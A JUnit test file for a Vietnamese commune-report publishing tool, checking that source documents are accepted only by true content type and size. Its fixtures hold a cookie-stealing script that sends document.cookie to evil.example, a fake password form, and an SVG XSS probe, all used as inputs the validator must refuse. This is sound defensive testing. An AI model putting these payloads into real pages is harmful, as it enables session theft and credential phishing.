package vn.xaso.trust;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.xaso.publish.SourceDocuments;
import vn.xaso.testing.TinyProject;

/**
 * Issue #22, item 2: only the document types a signed report comes in are published from
 * {@code sources/}, known by their content, at most 20 MB; an HTML or SVG page with a script is
 * refused by {@code validate} whatever it is named, and never published.
 */
class SourceDocumentTypesTest {
  private static final String REPORT = "data/hai-phong/hung-thang/2025-12.yaml";
  private static final String FOLDER = "sources/hai-phong/hung-thang/";
  private static final String PAGE = "<html><body><form action=https://evil.example/><input type=password></form>"
      + "<script>fetch('https://evil.example/?'+document.cookie)</script></body></html>\n";
  private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>\n";
  @TempDir Path dir;

  private TinyProject project(String name, byte[] bytes) throws Exception {
    TinyProject p = TinyProject.withCommune(dir.resolve("p")).file(REPORT, TinyProject.DECEMBER_SIGNED + "  file: " + name + "\n");
    Files.createDirectories(p.path(FOLDER));
    Files.write(p.path(FOLDER + name), bytes);
    return p;
  }

  private void refused(TinyProject p, String expected) {
    TinyProject.Run validate = p.run("validate");
    assertEquals(1, validate.exit(), validate.out() + validate.err());
    assertTrue(validate.out().contains(expected), validate.out());
    TinyProject.Run build = p.run("build", "--out", dir.resolve("site").toString());
    assertEquals(1, build.exit(), build.out() + build.err());
    assertFalse(Files.exists(dir.resolve("site")), "nothing published");
  }

  private void published(TinyProject p, String name, byte[] bytes) throws Exception {
    TinyProject.Run build = p.run("build", "--out", dir.resolve("site").toString());
    assertEquals(0, build.exit(), build.out() + build.err());
    assertArrayEquals(bytes, Files.readAllBytes(dir.resolve("site/data/hai-phong/hung-thang/sources/" + name)));
  }

  @Test
  void anHtmlPageWithAScriptRenamedPdfIsRefused() throws Exception {
    refused(project("bao-cao.pdf", PAGE.getBytes(StandardCharsets.UTF_8)), REPORT + ":9:3: error[source-content] source.file:"
        + " Nội dung tệp gốc " + FOLDER + "bao-cao.pdf không phải PDF như tên tệp nói.\n"
        + "    The content of the original " + FOLDER + "bao-cao.pdf is not PDF as its name says.");
  }

  @Test
  void anSvgWithAScriptRenamedTxtIsRefused() throws Exception {
    refused(project("bao-cao.txt", SVG.getBytes(StandardCharsets.UTF_8)),
        "error[source-content] source.file: Nội dung tệp gốc " + FOLDER + "bao-cao.txt không phải UTF-8 text");
  }

  @Test
  void anHtmlPageRenamedTxtIsRefusedEvenAfterSomeText() throws Exception {
    refused(project("bao-cao.txt", ("Báo cáo tháng 12\n" + PAGE).getBytes(StandardCharsets.UTF_8)), "error[source-content]");
  }

  @Test
  void anHtmlOrSvgOriginalIsRefusedByItsType() throws Exception {
    refused(project("bao-cao.html", PAGE.getBytes(StandardCharsets.UTF_8)), REPORT + ":9:3: error[source-type] source.file:"
        + " Tệp gốc " + FOLDER + "bao-cao.html không thuộc loại được đăng (pdf, docx, doc, odt, txt).\n"
        + "    The original " + FOLDER + "bao-cao.html is not of a type that is published (pdf, docx, doc, odt, txt).");
  }

  @Test
  void anSvgOriginalIsRefusedByItsType() throws Exception {
    refused(project("bao-cao.svg", SVG.getBytes(StandardCharsets.UTF_8)), "error[source-type]");
  }

  @Test
  void anOriginalOverTwentyMegabytesIsRefusedFromItsSize() throws Exception {
    TinyProject p = project("bao-cao.pdf", "%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII));
    try (RandomAccessFile f = new RandomAccessFile(p.path(FOLDER + "bao-cao.pdf").toFile(), "rw")) {
      f.setLength(SourceDocuments.MAX_BYTES + 1); // sparse: no 20 MB written
    }
    refused(p, "error[source-too-large] source.file: Tệp gốc " + FOLDER + "bao-cao.pdf quá lớn (20971521 byte, tối đa"
        + " 20971520).\n    The original " + FOLDER + "bao-cao.pdf is too large (20971521 bytes, at most 20971520).");
  }

  @Test
  void aZipWithoutAWordDocumentRenamedDocxIsRefused() throws Exception {
    refused(project("bao-cao.docx", zip("index.html", PAGE)), "error[source-content]");
  }

  @Test
  void textWithANulOrNotInUtf8IsRefused() throws Exception {
    refused(project("bao-cao.txt", "Báo cáo\0".getBytes(StandardCharsets.UTF_8)), "error[source-content]");
  }

  @Test
  void textInALegacyEncodingIsRefused() throws Exception {
    refused(project("bao-cao.txt", new byte[] {'B', (byte) 0xE1, 'o', ' ', 'c', (byte) 0xE1, 'o'}), "error[source-content]");
  }

  @Test
  void aPdfIsPublished() throws Exception {
    byte[] pdf = "%PDF-1.4\n%âãÏÓ\n1 0 obj<<>>endobj\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1);
    published(project("bao-cao.pdf", pdf), "bao-cao.pdf", pdf);
  }

  @Test
  void aDocxIsPublished() throws Exception {
    byte[] docx = zip("word/document.xml", "<w:document/>");
    published(project("bao-cao.docx", docx), "bao-cao.docx", docx);
  }

  @Test
  void anOdtIsPublished() throws Exception {
    byte[] odt = odt();
    published(project("bao-cao.odt", odt), "bao-cao.odt", odt);
  }

  @Test
  void aDocIsPublished() throws Exception {
    byte[] doc = new byte[512];
    byte[] ole = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
    System.arraycopy(ole, 0, doc, 0, ole.length);
    published(project("bao-cao.doc", doc), "bao-cao.doc", doc);
  }

  @Test
  void plainUtf8TextIsPublished() throws Exception {
    byte[] txt = "UBND XÃ HÙNG THẮNG\nBáo cáo tháng 12 (số 1/BC-UBND)\n".getBytes(StandardCharsets.UTF_8);
    published(project("bao-cao.txt", txt), "bao-cao.txt", txt);
  }

  private static byte[] zip(String entry, String text) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(entry));
      zip.write(text.getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    return bytes.toByteArray();
  }

  /** An OpenDocument text as LibreOffice writes it: an uncompressed "mimetype" entry first. */
  private static byte[] odt() throws Exception {
    byte[] type = "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      ZipEntry mimetype = new ZipEntry("mimetype");
      mimetype.setMethod(ZipEntry.STORED);
      mimetype.setSize(type.length);
      CRC32 crc = new CRC32();
      crc.update(type);
      mimetype.setCrc(crc.getValue());
      zip.putNextEntry(mimetype);
      zip.write(type);
      zip.closeEntry();
      zip.putNextEntry(new ZipEntry("content.xml"));
      zip.write("<office:document-content/>".getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    return bytes.toByteArray();
  }
}
